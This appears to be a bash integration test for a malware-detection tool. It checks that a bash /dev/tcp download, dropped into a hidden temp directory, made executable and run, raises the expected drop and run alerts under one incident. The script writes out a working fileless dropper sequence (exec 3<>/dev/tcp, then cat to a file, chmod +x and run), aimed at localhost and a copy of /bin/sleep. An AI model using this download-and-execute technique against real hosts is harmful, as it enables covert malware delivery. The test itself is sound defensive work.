#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The drop without a downloader: real bash connects itself
# (`exec 3<>/dev/tcp/127.0.0.1/PORT`), sends an HTTP request, writes the
# body into a hidden temp directory, makes it executable and runs it. The
# write-time alert comes when it is made executable, before it runs
# (MW-DROP-002, T1564.001); the run is MW-DROP-001 (T1105) naming bash
# as the downloader (method dev_tcp) and the peer of its own connection.
# The server is python's http.server in a network namespace with only lo.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/net_lib.sh"

need jq
need python3
mkdir -p "$T/srv" "$T/.y"
cp /bin/sleep "$T/srv/app"
netns_new devtcp || skip "cannot create a network namespace"
PORT=8932
bg ip netns exec "$NS" python3 -m http.server --bind 127.0.0.1 --directory "$T/srv" $PORT 2>"$T/http.log"
for i in $(seq 1 50); do
	ip netns exec "$NS" bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT" 2>/dev/null && break
	sleep 0.1
done
mw_start || finish

# The whole download in bash: headers skipped with read, the body by cat
# (forked by the shell, which keeps the connection open).
ip netns exec "$NS" bash -c "
	echo \$\$ >'$T/sh.pid'
	exec 3<>/dev/tcp/127.0.0.1/$PORT
	printf 'GET /app HTTP/1.0\r\nHost: x\r\n\r\n' >&3
	while IFS= read -r l <&3; do [ \"\$l\" = \$'\r' ] && break; done
	cat <&3 >'$T/.y/app'
	chmod +x '$T/.y/app'
	'$T/.y/app' 2 &
	echo \$! >'$T/app.pid'
	wait
" || fail "bash /dev/tcp download failed"
SH=$(cat "$T/sh.pid")
APP=$(cat "$T/app.pid")
cmp -s "$T/.y/app" /bin/sleep && ok "the program came over /dev/tcp whole" || fail "download is not the program"

line=$(wait_for ".event.kind == \"alert\" and .rule.id == \"MW-DROP-002\" and .file.path == \"$T/.y/app\"" 10) ||
	fail "no write-time alert for the chmod +x in the hidden temp dir"
[ -n "$line" ] && expect "$line" '.event.action == "chmod" and (.threat.technique.id | index("T1564.001") != null)' "chmod +x: MW-DROP-002, T1564.001"
line=$(wait_for ".event.kind == \"alert\" and .rule.id == \"MW-DROP-001\" and .process.pid == $APP" 10) ||
	fail "no run-after-download alert for the /dev/tcp download"
if [ -n "$line" ]; then
	expect "$line" '.threat.technique.id | index("T1105") != null' "run: T1105"
	expect "$line" ".minerwatch.behaviour.downloader.name == \"bash\" and .minerwatch.behaviour.downloader.pid == $SH" "run: names the bash that connected"
	expect "$line" '.minerwatch.behaviour.downloader.method == "dev_tcp"' "run: method dev_tcp"
	expect "$line" ".minerwatch.behaviour.downloader.peer == \"127.0.0.1:$PORT\"" "run: names the peer of bash's connection"
fi
# The chmod and the run are one intrusion: the same incident id.
ids=$(jq -r "select(.event.kind == \"alert\" and ((.file.path // \"\") == \"$T/.y/app\" or .process.pid == $APP)) | .minerwatch.incident.id" "$OUT" | sort -u)
[ "$(printf '%s\n' "$ids" | grep -c .)" = 1 ] && ok "drop and run under one incident ($ids)" ||
	fail "drop and run under incidents: $(echo $ids)"

# A plain shell without a connection running a fresh temp program: nothing.
mkdir -p "$T/.z"
cp /bin/true "$T/.z/quiet"
bash -c "'$T/.z/quiet'; echo \$! >/dev/null"
sleep 1
n=$(count_of ".event.kind == \"alert\" and .rule.id == \"MW-DROP-001\" and .process.executable == \"$T/.z/quiet\"")
[ "$n" = 0 ] && ok "no download alert without a connection" || fail "$n download alerts for a program no download wrote"
mw_stop
expect_valid_json
finish
